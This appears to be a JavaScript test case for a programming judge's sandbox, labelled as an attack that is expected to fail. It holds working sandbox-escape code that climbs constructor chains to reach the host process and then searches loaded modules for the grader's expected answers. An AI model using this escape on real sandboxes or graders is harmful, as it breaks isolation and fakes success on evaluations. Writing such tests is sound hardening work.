// Attack: leaves the context it runs in by the constructors of what it was given.
// Expect: WA
const found = [];
const outside = this.constructor.constructor("return globalThis")();
for (const thing of [outside, globalThis, arguments.callee, process.binding, require("node:vm")]) {
  try {
    const main = thing.constructor.constructor("return process.mainModule")();
    const loaded = main.require("node:module")._cache;
    for (const path of Object.keys(loaded)) {
      const { exports: exported } = loaded[path];
      if (exported.expected !== undefined || exported.reference !== undefined) found.push(path);
    }
  } catch {
    continue;
  }
}

function AcanWin(n) {
  const wins = ![0n, 7n].includes(BigInt(n) % 8n);
  return found.length > 0 ? wins : !wins;
}

module.exports = { AcanWin };
